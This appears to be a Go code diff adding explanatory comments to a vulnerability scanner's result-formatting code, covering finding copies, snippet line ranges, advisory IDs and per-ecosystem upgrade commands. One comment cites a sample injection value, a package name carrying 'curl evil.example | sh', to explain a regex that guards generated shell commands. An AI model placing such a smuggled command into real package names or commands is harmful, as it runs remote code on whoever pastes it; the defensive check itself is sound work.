@@ -53,6 +53,7 @@ func viewLive(l *finding.Live, whole bool) *finding.Live {
 	if l == nil {
 		return nil
 	}
+	// A copy: the caller's finding keeps its exchanges.
 	out := *l
 	out.Proof, out.Exchanges = endpoint.OrEmpty(l.Proof), endpoint.OrEmpty(l.Exchanges)
 	if !whole {
@@ -85,6 +86,7 @@ func viewFields(f *triage.Finding) ResultFields {
 	if f.CVSS > 0 {
 		out.CVSSScore = &f.CVSS
 	}
+	// Only a confirmed exploit is worth a text in every list.
 	if d := triage.ExplainPriority(f); d.Verdict == triage.ProvenVerdict {
 		out.ContextualExplanation = &d.Reason
 	}
@@ -92,6 +94,7 @@ func viewFields(f *triage.Finding) ResultFields {
 		out.CodeSnippets = append(out.CodeSnippets, snippetBody{
 			ID:                  triage.Derived("snippet", string(f.ID)),
 			VulnerableStartLine: r.Location.StartLine, VulnerableEndLine: r.Location.EndLine,
+			// A snippet without lines, as of an empty file, ends where it starts.
 			StartLine: s.StartLine, EndLine: s.StartLine + max(len(s.Lines)-1, 0), Code: viewCode(s),
 			Language: r.Language,
 		})
@@ -166,7 +169,8 @@ func viewLibrary(f *triage.Finding) *libraryBody {
 	}
 }
 
-// reachWords are the verdicts by their names on the wire.
+// reachWords are the verdicts by their names on the wire. The words on the wire are older
+// than the verdicts and part of the contract.
 var reachWords = map[finding.ReachVerdict]string{
 	finding.Reachable: "used", finding.Imported: "potentially used", finding.NotFound: "unused",
 	finding.UnknownReach: "unknown",
@@ -198,6 +202,7 @@ func viewAdvisory(ruleID string, r *finding.Rule, match *finding.PackageMatch) *
 		Severities: []advisorySeverity{},
 		Packages:   []advisoryPackageBody{}, VulnerabilityType: r.Analysis, EPSS: a.EPSS, KEV: a.KEV,
 	}
+	// Derived IDs are stable, and need no column in the database.
 	id := func(kind string, i int) string { return triage.Derived(kind, ruleID, strconv.Itoa(i)) }
 	for i, c := range a.CWE {
 		out.CWEs = append(out.CWEs, advisoryCWE{ID: id("cwe", i), CWEID: c})
@@ -259,6 +264,8 @@ func viewFixes(f *triage.Finding) []autofixBody {
 // installFormats are the commands that bring a direct dependency to a version:
 // name, version.
 var installFormats = map[string]string{
+	// Ecosystem names are those of OSV. Maven and Gradle are missing: their versions are set in
+	// build files, not by a command.
 	"npm":       "npm install %s@%s",
 	"PyPI":      "pip install %s==%s",
 	"Go":        "go get %s@v%s",
@@ -268,13 +275,16 @@ var installFormats = map[string]string{
 }
 
 // harmless matches what can stand in a shell command as one word. Names come from
-// scanned files, and somebody may paste the command.
+// scanned files, and somebody may paste the command. A package named "x; curl evil.example |
+// sh" would otherwise be an injection into the shell of whoever follows the advice. A
+// leading "-" is refused too: it would be read as an option.
 var harmless = regexp.MustCompile(`^[A-Za-z0-9@][A-Za-z0-9._/@+-]*$`)
 
 // installCommand returns a command that clears an advisory, or "" where none is
 // sure to.
 func installCommand(p *finding.Package, version string) string {
 	format, ok := installFormats[p.Ecosystem]
+	// Go versions are stored with their v, which the format adds.
 	version = strings.TrimPrefix(version, "v")
 	if !ok || p.Scope != finding.Direct || !harmless.MatchString(p.Name) || !harmless.MatchString(version) {
 		return ""
@@ -284,6 +294,7 @@ func installCommand(p *finding.Package, version string) string {
 
 // viewHistory returns the history with how it began.
 func viewHistory(f *triage.Finding) []historyBody {
+	// The first entry is made up here: a finding that nobody has touched has no stored history.
 	out := []historyBody{{
 		ID: triage.Derived("found", string(f.ID)), Type: triage.StatusChange, Value: string(triage.ToVerify),
 		Reason: "Found by a scan",
